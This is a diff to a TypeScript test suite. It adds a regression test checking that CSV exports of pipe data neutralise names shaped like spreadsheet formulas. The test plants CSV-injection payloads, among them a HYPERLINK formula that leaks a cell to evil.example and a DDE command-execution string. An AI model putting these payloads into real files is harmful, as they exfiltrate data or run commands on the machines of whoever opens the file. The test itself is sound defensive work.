@@ -2,6 +2,7 @@
 // recipient), the queued job builds the CSV without the hidden ids, with the columns the subscriptions open, and
 // mails it; without SMTP the file is kept in the outbox beside the mail.
 import { readFile } from 'node:fs/promises';
+import Papa from 'papaparse';
 import path from 'node:path';
 import { sql } from 'drizzle-orm';
 import type PgBoss from 'pg-boss';
@@ -71,6 +72,49 @@ forEachBackend('export by e-mail', (h) => {
     await boss.start();
   });
   afterAll(async () => boss?.stop({ graceful: false, close: false, wait: true }));
+
+  // Issue 37: names a utility's file brings (native ids, addresses) come out of every CSV as text, never a formula.
+  it('writes imported names that look like formulas as text, in the pipes and the segments files', async () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', '+1+1', '@SUM(1,1)', '＝1+1'];
+    const ids = ['P1', 'P2', 'P10', 'Q1'].map((p) => us.pipes[p]!);
+    const before = await withSystem(h.database.db, (tx) =>
+      tx.execute<{ id: number; native_pipe_id: string; address: string | null }>(
+        sql`SELECT id, native_pipe_id, address FROM pipes WHERE id = ANY(${`{${ids.join(',')}}`}::int[])`,
+      ),
+    );
+    await withSystem(h.database.db, async (tx) => {
+      for (const [i, id] of ids.entries()) {
+        await tx.execute(
+          sql`UPDATE pipes SET native_pipe_id = ${hostile[i]!}, address = ${"=cmd|' /C calc'!A0"} WHERE id = ${id}`,
+        );
+      }
+    });
+    try {
+      for (const type of ['lof', 'vis']) {
+        expect((await post(us, `extension=csv&type=${type}`, { hidden_ids: [] })).statusCode).toBe(202);
+        await runQueued();
+        const mail = (await h.outbox()).filter((m) => m.to === VIEWER).at(-1)!;
+        const text = await readFile(
+          path.join(h.config.dataDir, 'outbox', mail.attachments![0]!.path),
+          'utf8',
+        );
+        const fields = Papa.parse<string[]>(text.slice(1).trimEnd()).data.flat();
+        const live = fields.filter(
+          (f) => /^[=+\-@\t\r＝＋－＠]/.test(f) && !/^[+-]?[\d.]+(e[+-]?\d+)?%?$/i.test(f),
+        );
+        expect(live, type).toEqual([]);
+        if (type === 'lof') for (const name of hostile) expect(fields).toContain(`'${name}`);
+      }
+    } finally {
+      await withSystem(h.database.db, async (tx) => {
+        for (const row of before.rows) {
+          await tx.execute(
+            sql`UPDATE pipes SET native_pipe_id = ${row.native_pipe_id}, address = ${row.address} WHERE id = ${row.id}`,
+          );
+        }
+      });
+    }
+  });
 
   it('queues a pipes export and answers 202 with the recipient (EXP-02, 05)', async () => {
     const res = await post(us, 'extension=csv&type=lof', { hidden_ids: [us.pipes['P2']] });
